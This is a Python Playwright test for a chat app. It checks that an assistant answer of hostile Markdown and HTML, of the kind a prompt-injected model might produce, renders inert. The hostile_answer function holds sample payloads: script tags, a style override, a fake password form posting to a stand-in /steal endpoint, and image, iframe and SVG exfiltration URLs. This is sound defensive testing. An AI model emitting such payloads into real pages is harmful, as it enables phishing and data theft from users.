"""An answer full of hostile Markdown and HTML (what a prompt-injected model or a
crafted import can journal) renders as harmless text: no script runs, no style
or form reaches the page, and nothing is fetched from elsewhere until the user
clicks."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.e2e.conftest import Tabs
from tests.support.identities import seed_messages


class LeakCatcher:
    """A stranger's server: every request it receives is a leak."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def leak() -> Iterator[LeakCatcher]:
    catcher = LeakCatcher()
    yield catcher
    catcher.close()


def hostile_answer(elsewhere: str) -> str:
    return f"""Here is the answer.

<script>alert('script')</script>

<style>#composer {{ display: none !important; }} body {{ background: rgb(255, 0, 0); }}</style>

<form action="{elsewhere}/steal" method="post">Session expired. Password:
<input type="password" name="password"><button>Continue</button></form>

<img src="{elsewhere}/leak?via=html">

<iframe src="{elsewhere}/leak?via=iframe"></iframe>

<svg><image href="{elsewhere}/leak?via=svg" onload="alert('svg')"></image></svg>

<div style="position:fixed;inset:0;background:#fff">covering the page</div>

Inline <img src="x" onerror="alert('onerror')"> and <a href="javascript:alert('a')">a link</a>.

![chart]({elsewhere}/leak?via=markdown) [markdown link](javascript:alert('markdown-link'))

[docs](https://example.com/docs) and **bold** `code`

| a | b |
|---|---|
| 1 | 2 |
"""


def seed(database_url: str, session_id: str, contents: list[str]) -> None:
    # Playwright's sync API owns this thread's event loop: seed from another thread.
    with ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, seed_messages(database_url, session_id, contents)).result()


def open_hostile_conversation(page: Page, database_url: str, elsewhere: str) -> Locator:
    created = page.request.post("/api/sessions", data={})  # the page's own anonymous owner
    assert created.ok, created.text()
    session_id = created.json()["id"]
    seed(database_url, session_id, ["show me", hostile_answer(elsewhere)])
    page.goto(f"/#/s/{session_id}")  # a link to it: the page itself has not yet seen this visitor
    answer = page.locator(".msg.assistant")
    expect(answer).to_contain_text("Here is the answer.")
    expect(answer.locator("table")).to_be_visible()  # the Markdown subset still renders
    return answer


def test_hostile_markdown_renders_inert(
    tabs: Tabs, server_database: str, leak: LeakCatcher
) -> None:
    page = tabs.new()
    page.add_init_script("window.__alerts = []; window.alert = (m) => window.__alerts.push(m);")
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))

    answer = open_hostile_conversation(page, server_database, leak.url)
    page.wait_for_timeout(500)  # time for anything lazy to fire

    for tag in ("script", "style", "form", "input", "button", "iframe", "img", "svg", "div"):
        assert answer.locator(f".body {tag}").count() == 0, tag
    assert page.evaluate("document.styleSheets.length") == 1  # styles.css only
    expect(page.locator("#composer")).to_be_visible()
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    links = answer.locator(".body a").evaluate_all(
        "nodes => nodes.map(a => [a.getAttribute('href'), a.rel, a.target])"
    )
    assert [href for href, _, _ in links if href and not href.startswith(("http", "mailto:"))] == []
    assert all(rel == "noopener noreferrer" and target == "_blank" for h, rel, target in links if h)
    assert page.evaluate("window.__alerts") == [] and dialogs == []
    assert [url for url in requests if url.startswith(leak.url)] == []
    assert leak.hits == []

    # The remote image is offered as a link: loaded only when the user asks for it.
    image = answer.get_by_role("link", name="chart")
    expect(image).to_have_attribute("href", f"{leak.url}/leak?via=markdown")
    with page.context.expect_page() as opened:
        image.click()
    opened.value.wait_for_load_state()
    opened.value.close()
    assert [hit for hit in leak.hits if hit.startswith("/leak")] == ["/leak?via=markdown"]
    assert page.evaluate("window.__alerts") == [] and dialogs == []
